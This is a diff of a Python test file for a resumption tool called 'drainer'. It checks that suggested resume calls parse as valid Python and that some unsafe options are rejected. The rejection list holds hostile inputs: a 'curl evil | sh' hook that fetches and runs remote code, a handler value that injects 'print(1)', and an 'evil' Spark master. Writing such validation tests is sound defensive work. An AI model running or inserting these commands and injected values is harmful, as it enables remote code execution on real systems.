@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import ast
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -197,10 +198,24 @@ def test_a_class_of_a_program_is_resumed_by_a_call_there_with_the_settings_of_it
 
 def test_a_class_of_a_notebook_is_resumed_on_spark_by_its_call() -> None:
     words = ("--handler", "n:f.<locals>.Mine", "--engine", "spark", "--concurrency", "10")
-    assert Resuming(words).way("p.json") == (
-        "To resume it: `drainer.spark.drain(…, plan='p.json', handler=Mine)`"
-        " (in the program that defines Mine)"
-    )
+    call = "drainer.spark.drain(…, plan='p.json', handler=Mine, concurrency=10"
+    place = "(in the program that defines Mine)"
+    assert Resuming(words).way("p.json") == f"To resume it: `{call})` {place}"
+    more = Resuming((*words, "--set", "n=it's", "--tune", "grace=5s"))
+    assert more.command("p.json") == f"{call}, options={{'n': \"it's\"}})"
+    gap = more.command("p.json", ["--accept-gap"])
+    assert gap.startswith("drainer.resume('p.json', client=…, handler=Mine, settings=")
+    assert gap.endswith(", accept_gap=True)")
+
+
+@pytest.mark.parametrize("concurrency", ["007", "auto:9", "1_0", "x=1)", "٣"])
+@pytest.mark.parametrize("more", [(), ("--engine", "spark")], ids=["", "spark"])
+def test_a_call_can_be_pasted_whatever_a_plan_has(concurrency: str, more: tuple[str, ...]) -> None:
+    words = ("--handler", "__main__:Mine", "--concurrency", concurrency, *more)
+    call = Resuming((*words, "--set", "a'=\\")).command(Path("it's.json"))
+    ast.parse(call.replace("…", "x"))
+    found = ("--concurrency", concurrency, "--tune", "grace=2s", "--tune", "grace=1s")
+    assert "grace_s='1s'" in Resuming((*words[:2], *found)).command("p.json")
 
 
 @pytest.mark.parametrize(
@@ -208,6 +223,9 @@ def test_a_class_of_a_notebook_is_resumed_on_spark_by_its_call() -> None:
     [
         ("--handler", "evil.py:H"),
         ("--handler", "__main__:H), print(1"),
+        ("--handler", "__main__:class"),
+        ("--handler", "n:f.<locals>.A.None"),
+        ("--handler", "__main__:7"),
         ("--tune", "on-end=curl evil | sh"),
         ("--master", "spark://evil:7077"),
         ("--yes",),
